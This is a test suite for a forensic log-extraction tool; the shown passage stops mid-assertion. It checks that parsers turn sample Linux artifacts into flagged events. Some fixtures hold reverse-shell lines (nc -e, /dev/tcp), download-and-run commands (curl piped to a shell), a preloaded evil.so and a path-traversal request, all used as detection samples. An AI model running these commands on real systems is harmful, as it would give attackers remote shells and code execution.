"""Every extraction job on a few lines in the public formats."""

from __future__ import annotations

import base64
import hashlib
import struct

import pytest
from pyspark.sql import functions as F

from fleetlens.extract import REGISTRY
from fleetlens.extract.logins import lastlog_events, session_table_events, utmp_events
from fleetlens.extract.services import chrome_downloads, chrome_visits, firefox_visits
from fleetlens.extract.status import artifact_status, parser_stats
from fleetlens.schema import EVENT_COLUMNS
from fleetlens.sinks.exports import event_errors
from fleetlens.sources.records import split_records


@pytest.fixture
def run(as_lines, hosts):
    def go(name, texts, host="h1", mtime=1706000000.0, one_per_line=True):
        events = REGISTRY[name].extract(as_lines(texts, host, mtime), hosts)
        assert events.columns == EVENT_COLUMNS
        rows = events.withColumn("errors", event_errors()).orderBy(
            "source_artifact_path", "raw_line_offset", "subcategory", "actor_user").collect()
        assert [r.errors for r in rows if r.errors] == []
        assert len({r.event_hash for r in rows}) == len(rows) or not one_per_line
        return rows
    return go


def kinds(rows):
    return [r.subcategory for r in rows]


AUTH = """Jan  5 01:02:03 n1 sshd[77]: Failed password for carol from 198.51.100.20 port 40100 ssh2
Jan  5 01:02:09 n1 sshd[77]: Invalid user bob from 198.51.100.20 port 40101
Jan  5 01:03:00 n1 sshd[78]: Accepted publickey for dora from 203.0.113.9 port 40102 ssh2: RSA
Jan  5 10:05:00 n1 sshd[78]: Accepted password for dora from 203.0.113.9 port 40102 ssh2
Jan  5 10:06:00 n1 sudo:  opuser : TTY=pts/0 ; PWD=/home/x ; USER=root ; COMMAND=/bin/ls -l
Jan  5 10:07:00 n1 sudo: carol : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh
Jan  5 10:08:00 n1 usermod[99]: add 'carol' to group 'sudo'
Jan  5 10:09:00 n1 systemd-logind[5]: New session 'c1' of user 'kali'
Jan  5 10:10:00 n1 useradd[12]: new user: name=eve, UID=1005, GID=1005, home=/home/eve, shell=/bin/bash, from=x
Dec 31 23:59:59 n1 sshd[1]: Failed password for invalid user zed from 10.0.0.1 port 1 ssh2
Jan  5 10:11:00 n1 sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 ruser= rhost= user=root
Feb 30 10:11:00 n1 sshd[1]: Failed password for ann from 10.0.0.1 port 1 ssh2
nonsense line
Jan  5 10:12:00 n1 unix_chkpwd[9]: password check failed for user (carol)
"""


def test_auth_log(run):
    rows = run("authlog_parser", {"var/log/auth.log": AUTH})
    assert kinds(rows) == [
        "failed_login", "invalid_user", "successful_login", "successful_login", "sudo_command", "sudo_failure",
        "group_membership_added", "session_opened", "account_created", "failed_login", "auth_failure",
        "failed_login"]
    first = rows[0]
    assert (first.actor_user, first.source_ip, first.severity) == ("carol", "198.51.100.20", "low")
    assert first.description == "Wrong password for carol, coming from 198.51.100.20"
    assert str(first.timestamp_utc) == "2024-01-05 01:02:03" and first.timestamp_confidence == "year_inferred"
    assert first.notes == "grammar:sshd_failed_password" and first.raw_line_offset == 0
    assert rows[1].raw_line_offset == len(AUTH.split("\n")[0]) + 1
    # The operator's address outside and inside the window, and the operator's account inside it.
    assert [r.tool_generated_flag for r in rows[2:5]] == [False, True, True]
    assert rows[4].description == "opuser, acting as root, ran: /bin/ls -l"
    assert rows[5].description == "sudo refused carol after 3 wrong passwords"
    assert rows[6].description == "carol joined group sudo"
    assert rows[7].actor_user == "kali"
    assert (rows[8].actor_uid, rows[8].description) == (
        1005, "Account eve made (uid=1005, home=/home/eve, shell=/bin/bash)".replace("/bash)", "/bash,)"))
    # December is before the file's January mtime.
    assert str(rows[9].timestamp_utc) == "2023-12-31 23:59:59"
    assert rows[10].source_ip == "" and rows[10].actor_user == "root"
    assert rows[11].timestamp_utc is None and rows[11].timestamp_confidence == "unknown"


def test_auth_log_zone_distro_and_anchor(run):
    text = ("2021-03-04T05:06:07 n1 boot\n" + AUTH.split("\n")[0] + "\n" + AUTH.strip().split("\n")[-1] + "\n")
    rows = run("authlog_parser", {"var/log/secure.1": text}, host="h2")
    assert kinds(rows) == ["failed_login", "failed_login"]
    # Local time is five hours ahead; the ISO line gives the year.
    assert str(rows[0].timestamp_utc) == "2021-01-04 20:02:03"
    assert str(rows[0].timestamp_local) == "2021-01-05 01:02:03"
    assert rows[1].actor_process == "unix_chkpwd"


def test_cron_log(run):
    text = ("Jan  5 01:05:01 n1 CRON[80]: (root) CMD (/usr/local/bin/rotate)\n"
            "Jan  5 01:06:01 n1 CRON[81]: (root) CMD (curl http://198.51.100.7/x | bash)\n"
            "Jan  5 01:07:01 n1 crontab[82]: (ann) REPLACE (root)\n"
            "Jan  5 01:08:01 n1 anacron[83]: Job `cron.daily' started\n")
    rows = run("cronlog_parser", {"var/log/syslog": text})
    assert kinds(rows) == ["cron_command", "cron_command", "suspicious_cron_command", "crontab_modified",
                           "anacron_job"]
    bad = rows[2]
    assert bad.raw_line == "curl http://198.51.100.7/x | bash" and bad.severity == "high"
    assert bad.raw_line_offset == text.index("curl")
    assert "feeds a download to a shell" in bad.description
    assert rows[3].description == "ann replaced the crontab of root (REPLACE)"
    assert rows[4].description == "anacron job cron.daily started"


def test_journal(run):
    text = (
        '{"__REALTIME_TIMESTAMP":"1704416523000000","__SEQNUM":"12","_COMM":"sshd","_PID":"77",'
        '"MESSAGE":"Failed password for carol from 198.51.100.20 port 1 ssh2"}\n'
        'not json\n[1,2]\n'
        '{"__REALTIME_TIMESTAMP":"1704416524000000","SYSLOG_IDENTIFIER":"kernel","MESSAGE":[104,105]}\n'
        '{"__REALTIME_TIMESTAMP":"1704416525000000","__SEQNUM":"16","_COMM":"cron","MESSAGE":"x"}\n'
        '{"__REALTIME_TIMESTAMP":"oops","_COMM":"login","MESSAGE":null}\n')
    rows = run("journald_parser", {"journal/system.json": text})
    assert sorted(kinds(rows)) == ["failed_login", "journal_message", "journal_message", "journal_message",
                                   "journal_sequence_gap"]
    failed = next(r for r in rows if r.subcategory == "failed_login")
    assert failed.notes == "journald _COMM=sshd _PID=77 grammar:sshd_failed_password"
    assert str(failed.timestamp_utc) == "2024-01-05 01:02:03"
    gap = next(r for r in rows if r.subcategory == "journal_sequence_gap")
    assert gap.notes == "SEQUENCE_GAP expected=13 actual=16 gap=3"
    texts = {r.actor_process: r.description for r in rows if r.subcategory == "journal_message"}
    assert texts == {"kernel": "hi", "cron": "x", "login": "(empty journal entry)"}


def test_audit_trail(run):
    text = (
        'type=SYSCALL msg=audit(1704416523.120:501): arch=c000003e syscall=59 success=yes pid=9 auid=1000 uid=0 comm="ls" exe="/usr/bin/ls"\n'
        'type=EXECVE msg=audit(1704416523.120:501): argc=2 a0="ls" a1="-l"\n'
        'type=SYSCALL msg=audit(1704416524.000:502): syscall=2 auid=1000 comm="cat" exe="/bin/cat"\n'
        'type=USER_CMD msg=audit(1704416525.000:503): pid=1 auid=4294967295 uid=33 msg=\'cwd="/" cmd="nc -e /bin/sh 1.2.3.4 9"\'\n'
        'type=SYSCALL msg=audit(1704416526.000:504): syscall=59 uid=5 comm="sh" exe="/bin/busybox"\n'
        'type=EXECVE msg=audit(1704416526.000:504): argc=2 a1="-c" a0="sh"\n'
        'type=SYSCALL msg=audit(1704416527.000:501): syscall=59 uid=6 comm="id" exe="/bin/id"\n')
    rows = run("auditd_parser", {"var/log/audit/audit.log": text})
    assert kinds(rows) == ["process_execution", "sudo_execution", "process_execution", "process_execution"]
    assert (rows[0].description, rows[0].actor_uid, rows[0].actor_process) == (
        "Process executed: ls -l", 1000, "ls")
    assert str(rows[0].timestamp_utc) == "2024-01-05 01:02:03.120000"
    assert (rows[1].severity, rows[1].actor_uid) == ("high", None)
    assert rows[2].description == "Process executed: sh -c  (exe=/bin/busybox)"
    # A serial that comes back later is another event.
    assert rows[3].description == "Process executed: /bin/id"


def test_process_snapshot(run):
    text = ("USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"
            "root         1  0.0  0.1 1 1 ?        Ss   10:00   0:01 /sbin/init splash\n"
            "ann         22  0.0  0.1 1 1 pts/0    S    10:00   0:01 bash -i\nshort line\n")
    rows = run("ps_parser", {"volatile/ps.txt": text})
    assert [(r.actor_user, r.actor_process, r.severity) for r in rows] == [
        ("root", "/sbin/init", "info"), ("ann", "bash", "medium")]
    assert rows[1].description == "Process running at collection time (user ann): bash -i"


def test_shell_history(run):
    text = "#1704416523\n: 1704416600:0;ls -l\nwhoami\nid\n\n#1704416700\n#1704416800\nhistory -c\ncurl http://x/y\n"
    rows = run("shellhist_parser", {"home/ann/.bash_history": text})
    by = {r.raw_line: r for r in rows}
    assert str(by["ls -l"].timestamp_utc) == "2024-01-05 01:03:20"
    # The time line before the extended entry still dates the next plain command.
    assert str(by["whoami"].timestamp_utc) == "2024-01-05 01:02:03" and by["whoami"].raw_line_offset == 0
    assert by["id"].timestamp_utc is None and by["id"].timestamp_confidence == "unknown"
    assert str(by["history -c"].timestamp_utc) == "2024-01-05 01:06:40"
    assert (by["history -c"].subcategory, by["history -c"].severity) == ("suspicious_command", "high")
    assert by["curl http://x/y"].severity == "medium" and by["id"].actor_user == "ann"
    assert by["id"].description == "User ann executed: id"


def test_usb(run):
    k = "Jan  5 01:%02d:%02d n1 kernel: [10.1] "
    text = "".join([
        k % (6, 0), "usb 2-1: new high-speed USB device number 3 using xhci_hcd\n",
        k % (6, 1), "usb 2-1: New USB device found, idVendor=0781, idProduct=5567, bcdDevice= 1.00\n",
        k % (6, 1), "usb 2-1: Product: Cruzer\n", k % (6, 1), "usb 2-1: Manufacturer: SanDisk\n",
        k % (6, 1), "usb 2-1: SerialNumber: 4C53\n",
        k % (6, 2), "usb-storage 2-1:1.0: It is a mass storage device\n",
        k % (6, 3), "sd 6:0:0:0: [sdb] Attached SCSI removable disk\n",
        k % (9, 5), "usb 2-1: USB disconnect, device number 3\n",
        k % (9, 6), "usb 1-4: USB disconnect, device number 9\n",
        k % (9, 7), "usb 1-5.2: New USB device found, idVendor=046d, idProduct=c077\n",
        k % (9, 8), "usb 9-9: Product: ignored\n"])
    rows = run("usb_parser", {"var/log/kern.log": text})
    assert kinds(rows) == ["usb_connect", "usb_disconnect", "usb_disconnect", "usb_connect"]
    assert rows[0].description == ("USB device attached on port 2-1: SanDisk Cruzer idVendor=0781 idProduct=5567 "
                                   "0781 5567 serial=4C53")
    assert (rows[0].severity, rows[0].notes) == ("medium", "It is a mass storage device")
    assert rows[1].description == "USB device SanDisk Cruzer on port 2-1 disconnected after 3m 5s"
    assert rows[2].notes == "its connection is not in the log"
    assert rows[3].notes == "No removal in the log"


@pytest.fixture
def counted(spark):
    """Lines whose reads are counted: counted(lines) gives the lines and a function that tells how often one was read."""
    def build(lines):
        seen = spark.sparkContext.accumulator(0)

        def read(line):
            seen.add(1)
            return line

        return lines.withColumn("line", F.udf(read, "string").asNondeterministic()("line")), lambda: seen.value
    return build


def test_usb_reads_each_line_once(as_lines, hosts, counted):
    k = "Jan  5 01:02:%02d n1 kernel: usb 2-1: "
    text = "".join([k % 0, "new high-speed USB device number 3 using xhci\n", k % 1, "Product: Cruzer\n", k % 2, "USB disconnect, device number 3"])
    lines, reads = counted(as_lines({"var/log/kern.log": text}))
    assert sorted(r.subcategory for r in REGISTRY["usb_parser"].extract(lines, hosts).collect()) == ["usb_connect", "usb_disconnect"]
    assert reads() == 3


def test_cron_reads_each_line_once(as_lines, hosts, counted):
    text = ("Jan  5 01:02:03 n1 CRON[8]: (carol) CMD (curl http://x/y | sh)\nJan  5 01:02:04 n1 CRON[8]: (carol) CMD (/usr/bin/run)\n"
            "Jan  5 01:02:05 n1 other: nothing")
    lines, reads = counted(as_lines({"var/log/cron": text}).withColumn("anchor_year", F.lit(None).cast("int")))
    assert sorted(r.subcategory for r in REGISTRY["cronlog_parser"].extract(lines, hosts).collect()) == [
        "cron_command", "cron_command", "suspicious_cron_command"]
    assert reads() == 3


def test_every_month_of_a_syslog_prefix(run):
    months = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
    text = "".join(f"{m}  5 01:02:03 n1 usermod[99]: add 'carol' to group 'sudo'\n" for m in months)
    rows = run("authlog_parser", {"var/log/auth.log": text}, mtime=1735300000.0)
    assert [(r.timestamp_utc.year, r.timestamp_utc.month) for r in rows] == [(2024, n) for n in range(1, 13)]


def test_packages(run):
    rows = run("dpkg_parser", {"var/log/dpkg.log": (
        "2024-01-05 01:02:03 install nmap:amd64 <none> 7.9\n2024-01-05 01:02:04 status installed nmap:amd64 7.9\n"
        "2024-01-05 01:02:05 remove auditd:amd64 3.0 <none>\n2024-01-05 01:02:06 upgrade tree:amd64 1.0 2.0\n")})
    assert [(r.subcategory, r.severity, r.description) for r in rows] == [
        ("install", "medium", "Package nmap:amd64 installed (version 7.9)"),
        ("remove", "high", "Package auditd:amd64 removed (was version 3.0)"),
        ("upgrade", "info", "Package tree:amd64 upgraded from 1.0 to 2.0")]
    assert rows[0].timestamp_confidence == "exact"
    text = ("\nStart-Date: 2024-01-05  01:02:03\nCommandline: apt-get install nmap\nRequested-By: ann (1000)\n"
            "Install: nmap:amd64 (7.9), liblua:amd64 (5.3, automatic)\nInstall: again:amd64 (1)\n"
            "End-Date: 2024-01-05  01:02:09\n\nStart-Date: 2024-01-06  01:02:03\nUpgrade: tree:amd64 (1.0, 2.0)\n"
            "Purge: ufw:amd64 (0.36)\n")
    rows = run("apt_parser", {"var/log/apt/history.log": text, "var/log/apt/term.log": "Log started\n"})
    by = {r.raw_line.split("\n")[0]: r for r in rows}
    assert sorted(kinds(rows)) == ["apt_transaction", "apt_transaction", "package_install", "package_install",
                                   "package_remove", "package_upgrade"]
    one = by["Start-Date: 2024-01-05  01:02:03"]
    assert (one.severity, one.actor_user, one.actor_uid, one.raw_line_offset) == ("medium", "ann", 1000, 1)
    assert one.description == ("apt transaction by ann: apt-get install nmap [install 2] "
                               "(completed 2024-01-05  01:02:09)")
    two = by["Start-Date: 2024-01-06  01:02:03"]
    assert (two.severity, two.actor_user, two.actor_uid) == ("high", "root", 0)
    assert "(no command line recorded) [upgrade 1, purge 1]" in two.description
    assert by["Install: liblua:amd64 (5.3, automatic)"].description == (
        "Package liblua:amd64 installed by apt (version 5.3) (as a dependency)")
    assert by["Upgrade: tree:amd64 (1.0, 2.0)"].description == (
        "Package tree:amd64 upgraded from 1.0 to 2.0 by apt")
    rows = run("dnf_parser", {"var/log/dnf.rpm.log": (
        "2024-01-05T01:02:03+0500 SUBDEBUG Installed: nmap-3:7.9-1.x86_64\n"
        "2024-01-05T01:02:03Z INFO Erased: fail2ban-1.0-1.noarch\nJan 05 01:02:03 Updated: tree-2.1-1.x86_64\n"
        "2024-01-05T01:02:03Z SUBDEBUG Cleanup: x-1\n")})
    assert [(r.subcategory, r.severity, r.timestamp_confidence) for r in rows] == [
        ("package_install", "medium", "exact"), ("package_remove", "high", "exact"),
        ("package_upgrade", "info", "year_inferred")]
    assert str(rows[0].timestamp_utc) == "2024-01-04 20:02:03"
    assert rows[1].description == "Package fail2ban-1.0-1.noarch removed (rpm)"


def test_web_and_ftp(run):
    web = ('198.51.100.20 - - [05/Jan/2024:01:02:03 +0200] "GET /a HTTP/1.1" 200 512 "-" "ua x"\n'
           '198.51.100.21 - bob [05/Jan/2024:01:02:04 +0000] "POST /login HTTP/1.1" 401 5\n'
           '198.51.100.22 - - [05/Jan/2024:01:02:05 +0000] "GET /../../etc/passwd HTTP/1.1" 404 5 "-" "-"\nbad\n')
    rows = run("weblog_parser", {"var/log/nginx/access.log": web, "var/log/nginx/error.log": web})
    assert [(r.source_ip, r.severity, r.notes) for r in rows] == [
        ("198.51.100.20", "info", "status=200; bytes=512; ua=ua x"),
        ("198.51.100.21", "low", "status=401; bytes=5"), ("198.51.100.22", "medium", "status=404; bytes=5")]
    assert str(rows[0].timestamp_utc) == "2024-01-04 23:02:03" and rows[0].timestamp_local is None
    assert rows[1].description == "HTTP POST /login -> status 401 (5 bytes) [user: bob]"
    ftp = ('Fri Jan 05 01:02:03 2024 [pid 9] [carol] OK UPLOAD: Client "198.51.100.20", "/x", 10 bytes\n'
           'Fri Jan  5 01:02:04 2024 [pid 9] [carol] FAIL LOGIN: Client "198.51.100.20"\n'
           'Fri Jan 05 01:02:05 2024 1 192.0.2.5 1234 /pub/f b _ o r dave ftp 0 * c\n')
    rows = run("ftplog_parser", {"var/log/vsftpd.log": ftp}, host="h2")
    assert [(r.severity, r.description) for r in rows] == [
        ("medium", "FTP UPLOAD OK from 198.51.100.20 (user: carol, file: /x, 10 bytes)"),
        ("low", "FTP LOGIN FAIL from 198.51.100.20 (user: carol)"),
        ("info", "FTP DOWNLOAD by dave from 192.0.2.5: /pub/f (1234 bytes in 1s)")]
    assert str(rows[1].timestamp_utc) == "2024-01-05 01:02:04"


def test_accounts(run):
    texts = {
        "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/zsh\n"
                      "toor:x:0:0::/root:/usr/sbin/nologin\nshort:x\n",
        "etc/passwd-": "root:x:0:0:root:/root:/bin/bash\nold:x:1001:1001::/home/old:/bin/sh\n",
        "etc/shadow": "root:!:19000:0:99999:7:::\nann::19723:0:::\nbob:$6$secret:0:0:::\n",
        "etc/group": "sudo:x:27:ann,bob\nusers:x:100:\ndocker:x:999:ann\nnew:x:5:cat\n",
        "etc/group-": "sudo:x:27:ann\ndocker:x:999:ann,zoe\ngone:x:7:ann\n",
    }
    # Members of one group share line, offset and subcategory, hence their hash.
    rows = run("passwd_parser", texts, one_per_line=False)
    of = lambda k: [(r.actor_user, r.severity, r.raw_line) for r in rows if r.subcategory == k]
    assert [u for u, _, _ in of("account")] == ["root", "ann", "toor"]
    assert [u for u, _, _ in of("uid0_account")] == ["toor"]
    assert {u for u, _, _ in of("account_added_since_backup")} == {"ann", "toor"}
    assert of("account_removed_since_backup") == [("old", "medium", "old:x:1001:1001::/home/old:/bin/sh")]
    assert of("passwordless_account") == [("ann", "high", "ann::<aging fields redacted from event>")]
    assert of("locked_account") == [("root", "info", "root:!...")]
    assert of("password_state") == [("root", "info", "root:<hash omitted>:19000"),
                                    ("ann", "info", "ann:<hash omitted>:19723")]
    assert not any("secret" in r.raw_line for r in rows)
    assert len(of("group_membership")) == 4 and len(of("privileged_group_member")) == 3
    assert sorted(of("group_member_added_since_backup")) == [
        ("bob", "medium", "sudo: +bob"), ("cat", "low", "new: +cat")]
    assert of("group_member_removed_since_backup") == [("zoe", "low", "docker: -zoe")]


def test_sudoers(run):
    text = ("# comment\n#includedir /etc/sudoers.d\nDefaults env_reset\nDefaults:ann !authenticate\n"
            "Cmnd_Alias NET = /sbin/ip, \\\n    /sbin/route\nroot ALL=(ALL:ALL) ALL\n"
            "ann, %ops ALL=(root) NOPASSWD: /bin/ls\nbob ALL=(ALL) NOPASSWD: ALL\neve ALL=ALL\nwhat is this\n")
    rows = run("sudoers_parser", {"etc/sudoers": text})
    assert [(r.subcategory, r.severity, r.actor_user) for r in rows] == [
        ("includedir", "info", None), ("sudo_defaults", "info", None), ("passwordless_sudo", "high", None),
        ("sudo_alias", "info", None), ("sudo_privilege", "info", "root"), ("passwordless_sudo", "medium", "%ops"),
        ("passwordless_sudo", "medium", "ann"), ("passwordless_sudo", "high", "bob"),
        ("sudo_privilege", "medium", "eve"), ("sudoers_unparsed", "low", None)]
    assert rows[3].description == "Cmnd_Alias NET defined as: /sbin/ip, /sbin/route"
    assert rows[3].raw_line_offset == text.index("Cmnd_Alias")
    assert rows[5].raw_line.startswith("[%ops] ann, %ops") and rows[5].notes == "runas=root hosts=ALL"
    assert rows[6].description == ("sudoers: user ann may run /bin/ls as root on ALL with no password "
                                   "[tags: NOPASSWD]")


def test_crontabs(run):
    texts = {
        "etc/crontab": "SHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n"
                       "@reboot root /usr/bin/up\n* * * * * root curl http://x | sh\nbad line\n",
        "var/spool/cron/crontabs/ann": "@daily /bin/backup\n5 4 * * sun /bin/true\n",
        "etc/cron.daily/job": "#!/bin/sh\nls\nnc 1.2.3.4 9\n",
    }
    rows = run("cron_parser", texts)
    of = lambda path: [(r.subcategory, r.actor_user) for r in rows if r.source_artifact_path == path]
    assert of("etc/crontab") == [("cron_env", None), ("cron_job", "root"), ("cron_job", "root"),
                                 ("suspicious_cron_job", "root")]
    assert of("var/spool/cron/crontabs/ann") == [("cron_job", "ann"), ("cron_job", "ann")]
    assert of("etc/cron.daily/job") == [("cron_job", "root"), ("suspicious_cron_job", "root")]
    bad = next(r for r in rows if r.raw_line == "curl http://x | sh")
    assert bad.raw_line_offset == texts["etc/crontab"].index("curl") and bad.notes == "file_mtime_epoch=1706000000"
    boot = next(r for r in rows if "@reboot" in r.raw_line)
    assert boot.description == ("Cron job in etc/crontab: schedule @reboot (at every boot) runs as root: /usr/bin/up "
                                "(file mtime 2024-01-23T08:53:20+00:00)")
    script = next(r for r in rows if r.raw_line.startswith("<run-parts"))
    assert "is executed daily as root by run-parts (2 command lines" in script.description


def test_systemd_units(run):
    texts = {
        "etc/systemd/system/x.service": "[Unit]\nDescription=X\n\n[Service]\nExecStart=/bin/sh \\\n  -c 'eval y'\n"
                                        "Restart=always\n",
        "etc/systemd/system/multi-user.target.wants/x.service": "/etc/systemd/system/x.service\n",
        "home/ann/.config/systemd/user/b.timer": "[Timer]\nOnCalendar=daily\n",
    }
    rows = run("systemd_unit_parser", texts)
    by = {r.subcategory: r for r in rows}
    assert sorted(by) == ["suspicious_systemd_unit", "systemd_enabled_link", "systemd_timer", "systemd_unit"]
    unit = by["systemd_unit"]
    assert unit.description.startswith("systemd service unit etc/systemd/system/x.service runs as root: "
                                       "Description=X ExecStart=/bin/sh -c 'eval y' Restart=always")
    assert unit.raw_line == "<systemd unit file etc/systemd/system/x.service: 3 directives>"
    assert by["systemd_timer"].actor_user == "ann" and "(user unit for ann)" in by["systemd_timer"].description
    assert "links it into multi-user.target (link target" in by["systemd_enabled_link"].description
    assert by["suspicious_systemd_unit"].raw_line_offset == texts["etc/systemd/system/x.service"].index("ExecStart")


def test_ssh_and_startup_files(run):
    rows = run("sshd_config_parser", {"etc/ssh/sshd_config": (
        "PermitRootLogin yes\n#PermitEmptyPasswords yes\nPasswordAuthentication = yes\nPermitRootLogin no\n")})
    assert [(r.severity, r.raw_line) for r in rows] == [
        ("high", "PermitRootLogin yes"), ("medium", "PasswordAuthentication = yes")]
    assert kinds(run("ld_preload_parser", {"etc/ld.so.preload": "# x\n/lib/evil.so\n\n"})) == ["ld_preload_set"]
    assert kinds(run("startup_script_parser", {"home/ann/.bashrc": "alias l=ls\nbash -i >& /dev/tcp/1/2\n"})) == [
        "suspicious_startup_line"]
    blob = base64.b64encode(b"key material").decode()
    print_text = "SHA256:" + base64.b64encode(hashlib.sha256(b"key material").digest()).decode().rstrip("=")
    rows = run("authkeys_parser", {"home/ann/.ssh/authorized_keys": (
        f"# c\nssh-ed25519 {blob} ann@pc\n"
        f'command="do a thing",no-pty ssh-rsa {blob}\nssh-rsa ***\ngarbage\n')})
    assert [(r.subcategory, r.severity) for r in rows] == [
        ("authorized_key", "info"), ("authorized_key", "medium"), ("unparsable_key_line", "low"),
        ("unparsable_key_line", "low")]
    assert rows[0].description.startswith(
        f"ssh-ed25519 key authorized for login as ann: fingerprint {print_text} comment 'ann@pc' (file mtime")
    assert ' options command="do a thing",no-pty [bound to one command' in rows[1].description
    assert rows[2].description.startswith("Line 4 of home/ann/.ssh/authorized_keys could not be read")
    rows = run("knownhosts_parser", {"root/.ssh/known_hosts": (
        "|1|a=|b= ssh-rsa AAAA\n[198.51.100.3]:2222,alias ssh-rsa AAAA\n@revoked gw.example ssh-dss AAAA\n2001:db8::1 x y\n")})
    assert [(r.subcategory, r.source_ip, r.source_host) for r in rows] == [
        ("known_host_hashed", None, None), ("known_host", "198.51.100.3", None),
        ("known_host", None, "gw.example"), ("known_host", "2001:db8::1", None)]
    assert rows[1].description == "User root connected to 198.51.100.3 on port 2222 (aliases: alias) [ssh-rsa]"
    assert rows[2].description == "User root connected to gw.example [ssh-dss] @revoked"


def test_snapshots(run):
    rows = run("netstat_parser", {
        "volatile/ss.txt": 'Netid State Recv-Q\ntcp ESTAB 0 0 10.0.0.1:22 198.51.100.9:5000 users:(("sshd",pid=1,fd=3))\n'
                           "udp UNCONN 0 0 0.0.0.0:68 0.0.0.0:*\n",
        "volatile/netstat.txt": "Proto Recv-Q\ntcp 0 0 0.0.0.0:80 0.0.0.0:* LISTEN 12/nginx\nudp 0 0 0.0.0.0:53 0.0.0.0:* -\n"})
    assert sorted((r.subcategory, r.severity, r.source_ip, r.actor_process) for r in rows) == [
        ("established", "medium", "198.51.100.9", "sshd"), ("listen", "info", None, "nginx"),
        ("unconn", "info", None, None), ("unconn", "info", None, None)]
    rows = run("dns_parser", {"etc/resolv.conf": "; c\nnameserver 192.0.2.1\nsearch a.example b.example\n",
                              "etc/hosts": "127.0.0.1  localhost  lo # x\n# y\n"})
    assert [(r.subcategory, r.description) for r in rows] == [
        ("dns_mapping", "Fixed host name: 127.0.0.1 -> localhost lo"),
        ("dns_nameserver", "Name server in use: 192.0.2.1"),
        ("dns_search", "Search domains in use: a.example b.example")]
    rows = run("storage_parser", {
        "etc/fstab": "UUID=ab / ext4 defaults 0 1\nx y\n",
        "volatile/lsblk.txt": "junk\nNAME FSTYPE MOUNTPOINT\nsda\n├─sda1 ext4 /\n",
        "volatile/blkid.txt": '/dev/sda1: LABEL="R" UUID="ab" TYPE="ext4"\nodd: z\n',
        "volatile/mount.txt": "/dev/sda1 on / type ext4 (rw)\nproc on /proc type proc (rw)\n"})
    assert sorted(r.description for r in rows) == [
        "Active filesystem mount: /dev/sda1 on / (type ext4, rw)",
        "Block device /dev/sda1 (type: ext4, UUID: ab, Label: R)", "Block device odd (z)",
        "Static mount / on UUID=ab (type: ext4, options: defaults)",
        "Storage device/partition: sda (sda)", "Storage device/partition: sda1 (sda1 ext4 /)"]
    rows = run("netifaces_parser", {
        "volatile/ip_addr.txt": "1: lo: <LOOPBACK> mtu 1 state UNKNOWN\n    inet 127.0.0.1/8 scope host\n"
                                "2: eth0@if3: <UP> mtu 1 state UP\n    link/ether 02:42:ac:11:00:02 brd ff\n"
                                "    inet 10.0.0.5/24 x\n    inet6 fe80::1/64 y\n",
        "etc/network/interfaces": "auto eth0\niface eth0 inet static\n  address 10.0.0.9\n  gateway 10.0.0.1\n"})
    assert [(r.source_ip, r.description) for r in rows] == [
        ("10.0.0.9", "Network configuration for eth0 (mode: static, address: 10.0.0.9, gateway: 10.0.0.1)"),
        ("127.0.0.1", "Network interface lo (state: UNKNOWN, addresses: 127.0.0.1/8)"),
        ("10.0.0.5", "Network interface eth0 (state: UP, MAC: 02:42:ac:11:00:02, addresses: 10.0.0.5/24, fe80::1/64)")]
    rows = run("env_parser", {"etc/os-release": 'ID=debian\nPRETTY_NAME="Debian 12"\n# c\n',
                              "etc/machine-id": "\nabc\nxyz\n", "etc/timezone": "Europe/Berlin\n",
                              "etc/debian_version": "12.1\n"})
    assert sorted(r.description for r in rows) == [
        "Configured timezone: Europe/Berlin", "Machine id: abc", "OS release file etc/debian_version: 12.1",
        "Operating system: Debian 12"]


def utmp_record(kind, pid, line, user, host, seconds, address=b""):
    return (struct.pack("<ii32s4s32s256s", kind, pid, line, b"id", user, host)
            + struct.pack("<hhiii", 0, 0, 0, seconds, 0) + address.ljust(16, b"\0")).ljust(384, b"\0")


def test_login_records(spark, hosts):
    v6 = bytes.fromhex("20010db8000000000000000000000001")
    body = b"".join([
        utmp_record(2, 0, b"~", b"reboot", b"6.1.0", 1704416523), b"\0" * 384,
        utmp_record(7, 10, b"pts/0", b"ann", b"198.51.100.20", 1704416600, bytes([198, 51, 100, 20])),
        utmp_record(7, 11, b"pts/1", b"bob", b"gw.example", 1704416700),
        utmp_record(7, 12, b"pts/2", b"eve", b"x", 1704416710, v6),
        utmp_record(8, 10, b"pts/0", b"", b"", 1704416800), utmp_record(7, 1, b"a", b"b", b"", 12345),
        b"tail"])
    files = spark.createDataFrame([
        ("h1", "var/log/wtmp", "0" * 64, len(body), body), ("h1", "var/log/btmp", "0" * 64, 0, b""),
        ("h1", "run/utmp", "0" * 64, 384, b"\0" * 384)],
        "host_id string, artifact_path string, artifact_sha256 string, size long, content binary")
    rows = utmp_events(files, split_records(files, 384), hosts).orderBy("source_artifact_path", "raw_line_offset",
                                                                        "subcategory", "severity").collect()
    assert [(r.subcategory, r.actor_user, r.source_ip, r.source_host) for r in rows] == [
        ("utmp_empty", None, None, None), ("utmp_empty", None, None, None), ("system_boot", "reboot", None, "6.1.0"),
        ("utmp_unsupported_layout", None, None, None), ("utmp_unsupported_layout", None, None, None),
        ("login", "ann", "198.51.100.20", None), ("login", "bob", None, "gw.example"),
        ("login", "eve", "2001:db8::1", None), ("logout", None, None, None)]
    assert rows[5].description == "Login: ann on pts/0 from 198.51.100.20"
    assert rows[5].raw_line == "type=7 pid=10 line=pts/0 user=ann host=198.51.100.20 tv_sec=1704416600"

    last = lambda seconds, line, host: struct.pack("<i32s256s", seconds, line, host)
    body = last(1704416523, b"pts/0", b"198.51.100.20") + last(0, b"", b"") + last(1704416600, b"tty1", b"") + b"xx"
    files = spark.createDataFrame([("h1", "var/log/lastlog", "0" * 64, len(body), body),
                                   ("h2", "var/log/lastlog", "0" * 64, len(body), body)],
                                  "host_id string, artifact_path string, artifact_sha256 string, size long, content binary")
    accounts = spark.createDataFrame([("h1", 0, "root"), ("h1", 1, "ann")], "host_id string, uid long, user_name string")
    rows = lastlog_events(files, split_records(files, 292), accounts, hosts).orderBy("host_id", "raw_line_offset").collect()
    assert [(r.host_id, r.subcategory, r.actor_user, r.actor_uid) for r in rows] == [
